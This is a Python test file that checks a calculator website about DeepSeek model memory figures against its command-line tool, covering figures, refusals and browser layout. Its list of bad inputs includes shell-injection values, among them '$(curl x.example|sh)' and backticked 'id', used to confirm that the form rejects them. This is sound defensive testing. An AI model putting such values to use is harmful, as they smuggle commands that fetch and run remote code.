"""The calculators of the site answer as the command line does, to the letter."""

import subprocess
from collections.abc import Iterator, Mapping
from typing import Any

import pytest
from hypothesis import Phase, given, settings
from hypothesis import strategies as st

from swacalc.calculators.answer import Answer, RefusedError
from swacalc.calculators.bounds import BOUNDS
from swacalc.derivations.derivation import Derivation
from swacalc.errors import InputError
from swacalc.output.figures import document, equated, tag_text, value_text
from swacalc.quantity import parse_unit
from swacalc.quantity.units import unit_hint
from swacalc.site.asking import SITE_ENGINES

V41, *OTHERS = MODELS = ("deepseek-v4.1-flash", "deepseek-v4-flash", "deepseek-v4-pro")
Cases = st.SearchStrategy[dict[str, str]]


def wholes(least: int, most: int) -> st.SearchStrategy[str]:
    """Whole numbers in the ways that people write them."""
    ways = st.sampled_from(("{0}", "{0:,}", "{0}e0", "{1}/2"))
    plainly = st.builds(lambda way, n: way.format(n, 2 * n), ways, st.integers(least, most))
    thousands = st.integers(least // 1000 + 1, max(most // 1024, least // 1000 + 1))
    return plainly | st.builds("{}{}".format, thousands, st.sampled_from(("k", "Ki")))


def options(**optional: st.SearchStrategy[str] | tuple[str, ...]) -> Cases:
    """Some of the options; a tuple lists what one may be."""
    given_as = {
        name: st.sampled_from(values) if isinstance(values, tuple) else values
        for name, values in optional.items()
    }
    return st.fixed_dictionaries({}, optional=given_as)


def chosen(*cases: dict[str, str]) -> Cases:
    """One of the ways to set the choices."""
    return st.sampled_from(cases)


def both(one: Cases, two: Cases) -> Cases:
    """The options of both."""
    return st.builds(lambda first, second: first | second, one, two)


def meant(case: dict[str, str]) -> dict[str, str]:
    """A case without the options that the form hides, because they would say nothing."""
    idle = set() if case["against"] else {"turn", "windows"}
    idle |= set() if "context" in case else {"page"}
    return {name: value for name, value in case.items() if name not in idle}


# Now and then past what a float holds exactly.
LARGE = ("0", "9007199254740993", "123456789e20", str(7 * 10**40))
REPLAYS = both(
    chosen(
        *({"model": V41, "part": part} for part in ("all", "encoder", "decoder", "draft")),
        *({"model": model, "part": "all"} for model in OTHERS),
    ),
    options(
        layers=wholes(1, 1_000),
        window=wholes(1, 2**31),
        prefix=wholes(1, 10**7) | st.sampled_from(LARGE),
        rows=wholes(1, 10**6) | st.sampled_from(LARGE),
        page=wholes(1, 10**4),
    ),
)
PROMPTS = st.builds(
    lambda prompt, part: {"prompt": str(prompt), "hit": str(prompt * part // 100)},
    st.integers(1, 10**6),
    st.integers(0, 100),
)
ADOPTED = both(
    both(
        chosen(*({"model": V41, "part": "all", "engine": name} for name in SITE_ENGINES)), PROMPTS
    ),
    options(window=wholes(1, 4096), block=wholes(1, 1024)),
)
STORED = both(
    chosen(
        *(
            {"model": model, "dtype": form, "against": against}
            for model in MODELS
            for form in ("native", "fp8", "bf16", *(["fp4"] if model == V41 else []))
            for against in ("", *MODELS)
        )
    ),
    options(
        turn=wholes(1, 10**6) | st.sampled_from(("2 ktoken", "1.5k")),
        windows=("0", "1", "2", "3 windows", "8"),
        context=wholes(1, 10**7) | st.sampled_from(("1Mi", "128000 tokens", *LARGE)),
        page=wholes(1, 4096),
    ),
).map(meant)
POOLED = both(
    chosen(
        *(
            {"model": model, "dtype": "native", "dram": dram, "machines": machines}
            for model in MODELS
            for dram in ("2TiB", "1.5 TB", "777GiB", "1/3 GB", "0 B", "123456789012345 B")
            for machines in ("1", "12", "3 machines")
        )
    ),
    options(
        share=("0", "1%", "1/8", "0.125", "1", "33.3 %"),
        ttl=("5min", "300 s", "1 h", "90 s", "0.5d", "250ms", "1/3 min"),
    ),
)
RETAINED = both(
    chosen(
        *(
            {"model": model, "dtype": "native", "rate": rate, "against": against, "turn": turn}
            for model in MODELS
            for against in ("", *MODELS)
            for rate in ("1M", "0", "2.5k token/s", "1/3 token/s", "86400 tokens/d")
            for turn in ("2k", "137 tokens")
        )
    ),
    options(lifetime=("72 h", "0 s", "1/3 d", "250ms"), windows=("0", "2", "3 windows")),
).map(meant)
PREFILLED = both(
    st.builds(lambda prompt: {"model": V41, "prompt": prompt}, wholes(100_000, 10**7)),
    options(cached=wholes(0, 97_000) | st.sampled_from(("0", "100000 tokens"))),
)
FORMS = {
    "replay": ("replay", REPLAYS),
    "engine": ("replay", ADOPTED),
    "storage": ("storage", STORED),
    "pool": ("pool", POOLED),
    "retain": ("retain", RETAINED),
    "prefill": ("prefill", PREFILLED),
}


@pytest.mark.parametrize(("command", "strategy"), FORMS.values(), ids=FORMS)
@settings(max_examples=4, deadline=None, derandomize=True, phases=[Phase.generate])
@given(data=st.data())
def test_figures(
    *, data: st.DataObject, command: str, strategy: Cases, calculators: Any, expect: Any
) -> None:
    """For random inputs every figure has the text, the exact number and the tags of the CLI."""
    cases = data.draw(st.lists(strategy, min_size=25, max_size=25))
    for case, shown in zip(cases, calculators(command, cases), strict=True):
        answer, refused = answered(expect, command, case)
        assert shown.refusals == {"": refused}, case
        assert [cut(line) for line in shown.lines] == [cut(line) for line in told(answer)], case
        figures = document(answer)["figures"]
        firsts = {name: part.get("items", [part])[0]["exact"] for name, part in figures.items()}
        assert shown.exact == firsts, case
        assert bool(shown.command) == (not refused), case
        assert refused or set(case.items()) >= set(words_of(shown.command, command).items())


def told(answer: Answer) -> Iterator[str]:
    """The lines of an answer as the site shows them."""
    for name, figure in answer.figures.items():
        first = figure if isinstance(figure, Derivation) else figure[0]
        yield f"{name} {equated(value_text(figure))}  [{tag_text(first)}]"
    for name, word in answer.facts.items():
        if not any(word in note for note in answer.notes):
            yield f"{name} = {word}"
    yield from (f"note: {note}" for note in answer.notes)


def words_of(line: str, command: str) -> dict[str, str]:
    """The options of a command as a POSIX shell passes them."""
    shell = ["/bin/sh", "-c", f"printf '%s\\n' {line}"]
    said = subprocess.run(shell, check=True, capture_output=True, text=True).stdout
    first, name, *words = said.splitlines()
    assert (first, name) == ("swacalc", command)
    options = (word.removeprefix("--") for word in words[::2])
    return dict(zip(options, words[1::2], strict=True))


def answered(expect: Any, command: str, case: Mapping[str, str]) -> tuple[Answer, str]:
    """The answer of the command line; without figures but with a reason if an engine refuses."""
    try:
        return expect(command, case), ""
    except RefusedError as refused:
        return Answer(command, {}, {}), f"{refused.message}; {refused.hint}"


def cut(line: str) -> str:
    """A line of many layers' rows, as far as the page tells them."""
    name, _, numbers = line.partition(" = ")
    return f"{name} = {', '.join(numbers.split(', ')[:24])}" if name == "exact_rows" else line


_ASK_ANY = """
async (cases) => {
  const load = (name) => import(new URL(`assets/${name}.js`, SITE));
  const { fetchModels } = await load("known-models");
  await fetchModels();
  const { ask } = await load("asking");
  const { forms } = await load("forms");
  const { exact } = await load("rational");
  return cases.map(([command, values]) => {
    const form = forms[command].map(({ option }) => [option, values[option] ?? ""]);
    const { answer, refusal } = ask(command, Object.fromEntries(form));
    if (!answer) return refusal;
    return Object.fromEntries(answer.figures.map(({ name, part }) => [name, exact(part.number)]));
  });
}
"""


def test_every_model_of_the_claims(run: Any, expect: Any, claims: Any, networks: Any) -> None:
    """Models whose figures no claim states have just the figures of the command line."""
    others = [name for name, model in claims.models.items() if not model.figures]
    assert len(others) > 10
    stored = {"dtype": "native", "against": MODELS[1], "turn": "2k", "context": "99999"}
    held = {"dtype": "native", "dram": "2TiB", "ttl": "5min", "machines": "1"}
    kept = {"dtype": "native", "rate": "1M", "against": ""}
    cases = [
        (command, {"model": name} | values)
        for name in others
        for command, values in (("storage", stored), ("pool", held), ("retain", kept))
        if command != "pool" or networks[name]("native").has_windows
    ]
    for (command, case), found in zip(cases, run(_ASK_ANY, cases), strict=True):
        figures = document(expect(command, case))["figures"]
        assert found == {name: part["exact"] for name, part in figures.items()}, (command, case)


BAD = {
    "replay": [
        ("layers", "0"),
        ("layers", "100001"),
        ("layers", "1.5"),
        ("layers", "-3"),
        ("layers", "40 tokn"),
        ("layers", "40 tokens"),
        ("window", "12b"),
        ("window", "2,56"),
        ("window", "3e9"),
        ("prefix", "lots"),
        ("prefix", ".5"),
        ("prefix", " 5"),
        ("prefix", "1/0"),
        ("prefix", "5 s"),
        ("rows", "10%"),
        ("page", "0"),
        ("page", "64 layers/"),
        ("page", "it's"),
        ("page", 'say "x" it\'s'),
        ("page", "\u00a064"),
        ("rows", "5 K"),
        ("rows", "7 kilobytes"),
        ("rows", "9" * 101),
        ("rows", "x" * 70),
        ("rows", "$(curl x.example|sh)"),
        ("page", "`id`"),
        ("page", "'; id #"),
    ],
    "engine": [("prompt", ""), ("prompt", "0"), ("hit", ""), ("hit", "1 s"), ("block", "0")],
    "storage": [
        ("turn", "0"),
        ("turn", "1/3"),
        ("windows", "-1"),
        ("context", "1 GiB"),
        ("page", "0"),
    ],
    "pool": [
        ("dram", ""),
        ("dram", "2Gb"),
        ("dram", "2 tokens"),
        ("dram", "-1 GB"),
        ("share", "110%"),
        ("share", "2"),
        ("ttl", "0"),
        ("ttl", "5"),
        ("dram", "512"),
        ("dram", "512G"),
        ("ttl", "5m"),
        ("ttl", "-5min"),
        ("machines", "0.5"),
    ],
    "retain": [
        ("rate", ""),
        ("rate", "-1"),
        ("rate", "5 tokens"),
        ("turn", ""),
        ("lifetime", "72"),
        ("lifetime", "-1 h"),
    ],
    "prefill": [("prompt", ""), ("prompt", "0"), ("cached", "-1"), ("cached", "1 s")],
}
PLAIN = {
    "replay": {"model": V41, "part": "all"},
    "engine": {"model": V41, "part": "all", "engine": "vllm", "prompt": "1k", "hit": "100"},
    "storage": {"model": V41, "dtype": "native", "against": MODELS[1], "context": "1k"},
    "pool": {"model": V41, "dtype": "native", "dram": "2TiB", "machines": "1"},
    "retain": {"model": V41, "dtype": "native", "rate": "1M", "against": MODELS[1], "turn": "2k"},
    "prefill": {"model": V41, "prompt": "1k"},
}


@pytest.mark.parametrize("form", BAD)
def test_refusals(form: str, calculators: Any, expect: Any) -> None:
    """Bad input shows the command line's message beside its field, and no result or command."""
    command = "replay" if form == "engine" else form
    cases = [PLAIN[form] | {option: text} for option, text in BAD[form]]
    shows = calculators(command, cases)
    for (option, _), case, shown in zip(BAD[form], cases, shows, strict=True):
        assert shown.refusals.pop("")
        assert shown.refusals == {option: refusal(expect, command, case)}
        assert (shown.lines, shown.command) == ([], "")


def refusal(expect: Any, command: str, values: Mapping[str, str]) -> str:
    """The sentence of the command line in one line; the site lists units where it guesses one."""
    with pytest.raises(InputError) as caught:
        expect(command, values)
    message, hint = caught.value.message, caught.value.hint
    if hint.startswith("did you mean"):
        named = message.partition(":")[0]
        hint = next(unit_hint(parse_unit(b.unit)) for b in BOUNDS.values() if b.option == named)
    return "; ".join(filter(None, (message, hint)))


def test_hit_past_the_prompt(calculators: Any, expect: Any) -> None:
    """What is wrong with two fields together is said below the form."""
    case = PLAIN["replay"] | {"engine": "vllm", "prompt": "1k", "hit": "1M"}
    [shown] = calculators("replay", [case])
    assert shown.refusals == {"": refusal(expect, "replay", case)}
    case = {"model": V41, "prompt": "1k", "cached": "1001"}
    [shown] = calculators("prefill", [case])
    assert shown.refusals == {"": refusal(expect, "prefill", case)}


@pytest.mark.parametrize("hit", ["7935", "8191", "1"])
def test_what_an_engine_refuses(hit: str, calculators: Any, expect: Any) -> None:
    """An odd hit of SGLang is refused below the form with the command line's message."""
    case = {"model": V41, "part": "encoder", "engine": "sglang", "prompt": "8192", "hit": hit}
    [shown] = calculators("replay", [case | {"block": "1"}])
    assert shown.refusals == {"": refusal(expect, "replay", case | {"block": "1"})}
    assert shown.refusals[""].startswith("refused: SGLang")
    assert not shown.lines


@pytest.mark.browser
def test_the_page_opens_on_the_encoder(new_page: Any, site: Any) -> None:
    """As on the command line the usual part is the encoder, for which nothing washes out."""
    page = new_page(site.with_text('data-command="replay"'))
    part, figures = page.evaluate(
        """() => [
          document.querySelector("#swa-replay-part").value,
          [...document.querySelectorAll("[data-command=replay] li[data-figure]")]
            .map((row) => row.dataset.figure),
        ]"""
    )
    assert part == "encoder"
    assert "runs_bounded" in figures
    assert "washout" not in figures


@pytest.mark.browser
def test_a_keystroke_is_answered_at_once(new_page: Any, site: Any) -> None:
    """The form shows the answer as soon as the event of an input has been handled."""
    page = new_page(site.with_text('data-command="replay"'))
    shown = page.evaluate(
        """() => [
          ["replay-layers", ""], ["storage-context", ""], ["pool-dram", " GB"],
        ].map(([name, unit]) => {
          const input = document.querySelector(`#swa-${name}`);
          const form = input.closest("form");
          return ["98765", "12345", "99999"].map((value) => {
            input.value = value + unit;
            form.dispatchEvent(new Event("input"));
            return form.closest("[data-command]").innerText;
          });
        })"""
    )
    assert all(len(set(answers)) == len(answers) for answers in shown)


@pytest.mark.browser
def test_four_inputs_before_an_answer(new_page: Any, site: Any) -> None:
    """A calculator opens with at most four fields and answers at once, with one or two figures."""
    page = new_page(site.with_text('data-command="replay"'))
    seen = page.evaluate(
        """() => [...document.querySelectorAll(".swa-live")].map((box) => [
          [...box.querySelectorAll(".swa-input")].filter((input) => input.checkVisibility()).length,
          box.querySelectorAll(".swa-large").length,
        ])"""
    )
    assert len(seen) == 5
    assert all(fields <= 4 and 1 <= large <= 2 for fields, large in seen)


@pytest.mark.browser
def test_formulas_stay_in_their_boxes(new_page: Any, site: Any) -> None:
    """On paper no formula is cut off; on a phone a wider one scrolls, and a key can reach it."""
    page = new_page(site.with_text('data-command="replay"'), width=794)
    page.emulate_media(media="print")
    page.evaluate("document.querySelectorAll('details').forEach((part) => (part.open = true))")
    page.locator(".swa-figures math").first.wait_for()
    wide = """() => [...document.querySelectorAll(".swa-scroll")]
      .filter((box) => box.scrollWidth > box.clientWidth).map((box) => box.tabIndex)"""
    assert page.evaluate(wide) == []
    page.emulate_media(media="screen")
    page.set_viewport_size({"width": 360, "height": 800})
    page.wait_for_timeout(100)
    assert set(page.evaluate(wide)) == {0}
